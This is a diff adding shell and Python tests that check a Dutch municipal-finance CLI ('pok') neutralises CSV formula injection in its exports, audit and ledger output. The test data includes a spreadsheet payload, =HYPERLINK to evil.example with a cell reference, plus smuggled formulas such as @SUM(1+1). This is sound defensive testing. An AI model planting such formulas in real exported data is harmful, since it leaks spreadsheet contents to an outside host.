@@ -298,3 +298,50 @@ assert a == b" >out 2>&1; then
 fi
 kill "$ex_pid" 2>/dev/null
 wait "$ex_pid" 2>/dev/null
+
+# CSV injection: text that starts with = + - @ (a measure named as a spreadsheet formula)
+# gets a leading apostrophe in every CSV pok writes (export csv, export datapackage,
+# audit --format csv, ledger), so a spreadsheet shows it instead of running it; numbers,
+# also negative ones, stay numbers.
+INJ_DB=$(db_new inject)
+inj_formula='=HYPERLINK("http://evil.example/?"&A1,"klik")'
+inj_quoted='"'\''=HYPERLINK(""http://evil.example/?""&A1,""klik"")"'
+{
+  "$POK" --db "$INJ_DB" init &&
+    "$POK" --db "$INJ_DB" municipality add GM1734 Overbetuwe &&
+    "$POK" --db "$INJ_DB" source add --kind circulaire --title 'Meicirculaire 2024' &&
+    "$POK" --db "$INJ_DB" allocation add GM1734 2 2024 1.000 --source 1 &&
+    "$POK" --db "$INJ_DB" measure add GM1734 "$inj_formula" --partner '@SUM(1+1)' \
+      --description '+31 6 1234' &&
+    "$POK" --db "$INJ_DB" measure plan 1 2024 5.000 &&
+    "$POK" --db "$INJ_DB" measure add GM1734 Weg &&
+    "$POK" --db "$INJ_DB" delete measure 2 --reason '-2+3 (per ongeluk)'
+} >out 2>&1 || not_ok "csv injection: the records" "$(cat out)"
+expect "csv injection: export csv" 0 "van 1 gemeente geschreven" -- "$POK" --db "$INJ_DB" export csv inj-csv
+expect "csv injection: export datapackage" 0 "datapackage.json" -- "$POK" --db "$INJ_DB" export datapackage inj-dp
+"$POK" --db "$INJ_DB" audit --format csv >inj-audit.csv 2>&1
+for f in inj-csv/maatregelen.csv inj-dp/maatregelen.csv; do
+  if grep -qF ",$inj_quoted,'+31 6 1234,'@SUM(1+1),gepland," "$f" && ! grep -q ',=HYPERLINK' "$f"; then
+    ok "csv injection: $f neutralises the name, description and partner"
+  else not_ok "csv injection: $f neutralises the name, description and partner" "$(cat "$f")"; fi
+done
+# a negative amount is a number, not text: it stays as it is (pok ledger totals --format csv)
+printf 'boekjaar;kostenplaats;bedrag\n2024;=HYPERLINK("x");-2500,50\n2024;-KP1;100,00\n' >inj-gb.csv
+expect "csv injection: ledger totals keeps negative amounts and neutralises codes" 0 \
+  '"'\''=HYPERLINK(""x"")",2024,1,"-2500,50"' "'-KP1,2024,1,\"100,00\"" \
+  -- "$POK" ledger totals inj-gb.csv --format csv
+if grep -qF ",'-2+3 (per ongeluk)" inj-audit.csv && ! grep -q ',-2+3' inj-audit.csv &&
+  grep -qF 'name: =HYPERLINK' inj-audit.csv; then
+  ok "csv injection: audit --format csv neutralises a reason"
+else not_ok "csv injection: audit --format csv neutralises a reason" "$(cat inj-audit.csv)"; fi
+if python3 - inj-csv/maatregelen.csv inj-audit.csv >out 2>&1 <<'EOF'
+import csv, sys
+rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
+h = rows[0]
+assert rows[1][h.index("naam")] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"klik")', rows[1]
+audit = list(csv.reader(open(sys.argv[2], newline="", encoding="utf-8")))
+assert all(len(r) == len(audit[0]) for r in audit), audit
+assert not any(c[:1] in "=+-@\t\r" for r in rows[1:] + audit[1:] for c in r if c and not c.lstrip("-").isdigit())
+EOF
+then ok "csv injection: the CSVs parse and no text cell starts a formula"
+else not_ok "csv injection: the CSVs parse and no text cell starts a formula"; fi
